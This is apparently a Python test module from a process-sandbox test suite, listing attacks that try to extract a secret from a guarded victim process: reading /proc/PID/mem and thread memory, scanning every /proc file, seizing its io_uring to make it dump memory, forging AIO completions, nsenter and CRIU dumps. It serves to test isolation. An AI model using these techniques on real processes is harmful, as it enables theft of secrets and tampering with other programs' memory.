"""Attacks by another way round: other names of the same memory, namespaces, orders in its name, a picture of it."""

import contextlib
import os
import struct
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

from cloister.app.battery import calls_unsafe as calls
from cloister.app.battery.attack import Attack, Attempt, NotTried, failed, succeeded
from cloister.app.battery.compiling import build
from cloister.app.battery.memory import arena_directory, holds_secret, links, maps_of, mem_write, readable, reading
from cloister.app.battery.procfs import not_here
from cloister.app.battery.rings_unsafe import ENTRIES, order_write
from cloister.app.battery.target import Arena, Target, threads_of, wait_for
from cloister.app.battery.tracing import last_line, program, run_tool

__all__ = ["SIDEWAYS"]

VARIABLE = "TOKEN"
LARGEST_FILE = 1 << 20
BUSY_SECONDS = 2.0
RING_SECONDS, MOMENT, TOOL_SECONDS = 2.0, 0.02, 30.0
PIECE, LARGEST_MAPPING = 1 << 16, 1 << 22
ORDERS_SECONDS = 30.0
RING_HEADER, RING_TAIL = 32, 12
"""struct aio_ring."""
SKIPPED = frozenset({"mem", "map_files", "fd", "pagemap", "clear_refs"})
"""Of /proc/PID: tried by other attacks, or not for reading."""

RING = """
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <linux/io_uring.h>
static char s[64];
int main(void)
{ struct io_uring_params p; char c;
  memset(&p, 0, sizeof p); p.flags = IORING_SETUP_SQPOLL; p.sq_thread_idle = 100;
  (void)syscall(SYS_io_uring_setup, %d, &p);
  if (!fgets(s, sizeof s, stdin)) return 1;
  puts("ready"); fflush(stdout);
  return (int)read(0, &c, 1); }
"""

COMPLETIONS = """
#include <stdio.h>
#include <time.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <linux/aio_abi.h>
static char s[64];
int main(void)
{ aio_context_t ring = 0; struct io_event event; struct timespec moment = {0, 50000000}; char c; int i;
  (void)syscall(SYS_io_setup, 8, &ring);
  if (!fgets(s, sizeof s, stdin)) return 1;
  puts("ready"); fflush(stdout);
  for (i = 0; ring && i < 200; i++)
    if (syscall(SYS_io_getevents, ring, 1, 1, &event, &moment) == 1) { puts("completed"); fflush(stdout); }
  return (int)read(0, &c, 1); }
"""

SEARCH = """
import sys
pid, wanted, got = int(sys.argv[1]), sys.stdin.readline().strip().encode(), b""
memory = open(f"/proc/{pid}/mem", "rb", 0)
for line in open(f"/proc/{pid}/maps"):
    start, end = (int(word, 16) for word in line.split()[0].split("-"))
    if "[v" in line or end - start > 1 << 28: continue
    try: memory.seek(start); found = wanted in memory.read(end - start)
    except (OSError, OverflowError): continue
    if found: print("found")
"""


def thread_memory(pid: int, address: int, size: int) -> bytes:
    """/proc/PID/task/TID/mem of the newest thread."""
    path = f"/proc/{pid}/task/{threads_of(pid)[-1]}/mem"
    fd = os.open(path, os.O_RDONLY | os.O_CLOEXEC)
    try:
        return os.pread(fd, size, address)
    finally:
        os.close(fd)


def opened_early(arena: Arena) -> Attempt:
    """Open /proc/PID/mem at the first moment, before any guard is there, and read when the secret is."""
    secret = os.urandom(14).hex().encode()
    with arena.started(arena.victim(), secret) as target:
        try:
            fd = os.open(f"/proc/{target.pid}/mem", os.O_RDWR | os.O_CLOEXEC)
        except PermissionError as error:
            return failed(str(error.strerror))
        try:
            target.tell(secret.decode())
            ours = not arena.setting.words
            wait_for(target.is_ready, TOOL_SECONDS) if ours else time.sleep(arena.setting.delay)
            got = list(readable(target.pid, lambda _pid, address, size: os.pread(fd, size, address)))
        finally:
            os.close(fd)
        if any(secret in data for _, _, data in got):
            return succeeded("the secret was read by what was opened before")
        return failed(f"{sum(len(data) for _, _, data in got):,} bytes could be read, the secret is in none")


def reading_while(command: str) -> Callable[[Arena], Attempt]:
    """Search all of its memory again and again, while it forks, executes, or asks for more."""

    def run(arena: Arena) -> Attempt:
        with arena.target(built_in=True) as target:
            target.tell(command)
            limit, searches, seen = time.monotonic() + BUSY_SECONDS, 0, set[int]()
            while time.monotonic() < limit and target.alive():
                searches += 1
                seen.update(target.family())
                if holds_secret(target):
                    return succeeded("the secret was read")
            return failed(f"searched {searches} times, {len(seen)} processes; never found")

    return run


def everything_shown(arena: Arena) -> Attempt:
    """Read every file of /proc/PID, of its threads and of its guards; it got the secret as a variable."""
    with arena.target(variable=VARIABLE, built_in=True) as target:
        number = 0
        for pid in target.family():
            for path in files_shown(Path(f"/proc/{pid}")):
                number += 1
                if target.secret in start_of(path):
                    return succeeded(f"the secret was read in {path.name}")
        return failed(f"{number} files, the secret is in none")


def files_shown(place: Path) -> Iterator[Path]:
    """The plain files below, without what is skipped. A process may end meanwhile."""
    with contextlib.suppress(OSError):
        for path in sorted(place.iterdir()):
            if path.name in SKIPPED or path.is_symlink():
                continue
            if path.is_dir():
                yield from files_shown(path)
            else:
                yield path


def start_of(path: Path) -> bytes:
    """What can be read without waiting."""
    with contextlib.suppress(OSError):
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC)
        try:
            return os.read(fd, LARGEST_FILE)
        finally:
            os.close(fd)
    return b""


def ring(arena: Arena) -> Attempt:
    """A program with an io_uring: take its descriptor, and order it to write its memory to its standard output."""
    with arena_directory(arena) as place, arena.target(words=(str(build(place, "ring", RING % ENTRIES)),)) as target:
        pidfd = os.pidfd_open(target.pid)
        try:
            taken = [calls.take_descriptor(pidfd, number) for number in rings_of(target)]
        finally:
            os.close(pidfd)
        if not taken:
            if not arena.enclaved:
                raise NotTried("io_uring is switched off on this machine")
            return failed("it got no ring that could be taken")
        try:
            return ordered(target, taken[0])
        finally:
            for fd in taken:
                os.close(fd)


def ordered(target: Target, descriptor: int) -> Attempt:
    """Have the program write its memory to its own output, from where the secret is, or else from everywhere."""
    known = holds_secret(target)
    places = [(known, 64)] if known else list(pieces_of(target.pid))
    limit = time.monotonic() + ORDERS_SECONDS
    while places and time.monotonic() < limit:
        for address, size in places[:ENTRIES]:
            order_write(descriptor, 1, address, size)
        del places[:ENTRIES]
        if wait_for(lambda: target.said(target.secret), MOMENT if places else RING_SECONDS):
            return succeeded("the program wrote the secret for us")
    return failed(f"it wrote nothing of it{', as far as time went' if places else ''}")


def pieces_of(pid: int) -> Iterator[tuple[int, int]]:
    """Address and size of what may hold data, in pieces. Of large mappings the beginning."""
    for mapping in maps_of(pid):
        if mapping.permissions.startswith("rw"):
            yield from ((mapping.start + at, PIECE) for at in range(0, min(mapping.size, LARGEST_MAPPING), PIECE))


def rings_of(target: Target) -> list[int]:
    """Numbers of its descriptors that are rings."""
    found = []
    for link in links(target, "fd"):
        with contextlib.suppress(OSError):
            if "io_uring" in os.readlink(link) and f"/proc/{target.pid}/" in link:
                found.append(int(Path(link).name))
    return found


def completions(arena: Arena) -> Attempt:
    """A program that waits for completions of AIO, of which there are none: write one into its ring."""
    with arena_directory(arena) as place:
        path = str(build(place, "completions", COMPLETIONS))
        with arena.target(words=(path,)) as target:
            found = [one.start for one in maps_of(target.pid) if "[aio]" in one.path]
            if not found:
                return failed("it got no ring")
            try:
                mem_write(target.pid, found[0] + RING_HEADER, struct.pack("<QQqq", 1, 1, 1, 0))
                mem_write(target.pid, found[0] + RING_TAIL, struct.pack("<I", 1))
            except OSError as error:
                return failed(error.strerror or str(error))
            seen = wait_for(lambda: target.said(b"completed"), RING_SECONDS)
        return succeeded("it was told that something is done that is not") if seen else failed("it was told nothing")


def inside_its_namespaces(arena: Arena) -> Attempt:
    """Nsenter into every namespace of the program, and search its memory from there."""
    tool = program("nsenter")
    with arena.target() as target:
        script = target.directory / "search.py"
        script.write_text(SEARCH)
        wanted = target.directory / "wanted"
        wanted.write_bytes(target.secret)
        command = [tool, "-t", str(target.pid), "-m", "-u", "-i", "-n", "-p", "-C", "/bin/sh", "-c"]
        words = f"exec {sys.executable} {script} {target.pid} < {wanted}"
        said = run_tool([*command, words], target.directory, TOOL_SECONDS)
        if said and "found" not in said:
            raise NotTried(last_line(said))
        return succeeded("the secret was read from inside") if said else failed("from inside it is not readable either")


def picture(arena: Arena) -> Attempt:
    """CRIU writes a picture of the process, from which it could be continued."""
    tool = program("criu")
    with arena.target() as target, arena_directory(arena) as place:
        able = run_tool([tool, "check"], place, TOOL_SECONDS)
        if "Looks good" not in able:
            raise NotTried(f"criu does not work with this kernel: {last_line(able)[:80]}")
        command = [tool, "dump", "-t", str(target.pid), "-D", str(place), "-j", "--leave-running"]
        said = run_tool(command, place, TOOL_SECONDS)
        content = [path.read_bytes() for path in place.glob("*.img")]
        if any(target.secret in one for one in content):
            return succeeded("the secret is in the picture")
        return failed(f"{len(content)} files of a picture: {last_line(said)[:80]}")


MEM = "proc_pid_mem(5)"
SIDEWAYS = (
    Attack(
        name="thread-mem",
        what="search the memory by its threads",
        source="proc_pid_task(5)",
        run=reading(thread_memory),
    ),
    Attack(name="early-mem", what="open /proc/PID/mem before its guards", source=MEM, run=opened_early),
    Attack(name="fork-mem", what="search while it forks", source=MEM, run=reading_while("fork")),
    Attack(name="exec-mem", what="search while it executes others", source=MEM, run=reading_while("exec")),
    Attack(name="grow-mem", what="search while it asks for memory", source=MEM, run=reading_while("grow")),
    Attack(name="proc-files", what="read all of /proc/PID", source="proc(5)", run=everything_shown),
    Attack(name="io-uring", what="give orders by its io_uring", source="io_uring_setup(2), SQPOLL", run=ring),
    Attack(name="aio-ring", what="forge completions of its AIO", source="io_setup(2)", run=completions),
    Attack(name="nsenter", what="read from inside its namespaces", source="nsenter(1)", run=inside_its_namespaces),
    Attack(name="criu", what="a picture of it by CRIU", source="criu(8)", run=picture),
    Attack(
        name="userfaultfd",
        what="fill its pages in its place",
        source="userfaultfd(2)",
        run=not_here("a process can register no memory but its own"),
    ),
    Attack(
        name="kcmp",
        what="compare it with other processes",
        source="kcmp(2)",
        run=not_here("it says which files and memory are the same, and nothing of what is in them"),
    ),
)
